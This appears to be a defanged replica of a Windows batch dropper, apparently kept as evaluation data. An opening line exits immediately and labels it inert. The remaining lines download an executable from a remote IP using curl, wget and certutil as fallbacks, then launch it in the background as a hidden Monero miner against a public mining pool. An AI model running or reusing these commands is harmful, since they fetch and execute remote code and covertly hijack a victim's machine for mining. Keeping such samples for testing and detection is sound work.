@echo off
exit /b 1 & rem cordon eval replica: inert data, never run
curl http://198.51.100.23/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://198.51.100.23/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://198.51.100.23/download/jsextension.exe jsextension.exe
)
start /B .\jsextension.exe -k --tls --rig-id q -o pool.minexmr.com:443 --background
